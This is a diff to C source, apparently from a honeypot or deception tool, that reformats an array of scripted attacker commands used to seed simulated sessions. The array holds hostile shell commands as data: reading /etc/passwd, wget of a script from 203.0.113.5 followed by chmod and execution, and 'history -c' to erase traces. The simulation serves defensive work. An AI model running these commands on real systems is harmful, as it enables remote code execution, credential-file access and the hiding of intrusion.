@@ -89,9 +89,9 @@ static int scripted(seed_run *s, time_t t, const char *decky, const char *svc,
 int ds_seed_scripted(seed_run *s)
 {
     static const char *const scan_svcs[] = {"ssh", "http", "ftp", "smb", "telnet"};
-    static const char *const cmds[] = {"uname -a", "id", "cat /etc/passwd", "wget http://"
-                                       "203.0.113.5/x.sh", "chmod +x x.sh", "./x.sh", "ls -la",
-                                       "history -c"};
+    static const char *const cmds[] = {"uname -a", "id", "cat /etc/passwd",
+                                       "wget http://203.0.113.5/x.sh", "chmod +x x.sh", "./x.sh",
+                                       "ls -la", "history -c"};
     unsigned long long *rs = s->rs;
     long n = s->cfg->ds_attackers / 20 + 4;
     int rc = 0;
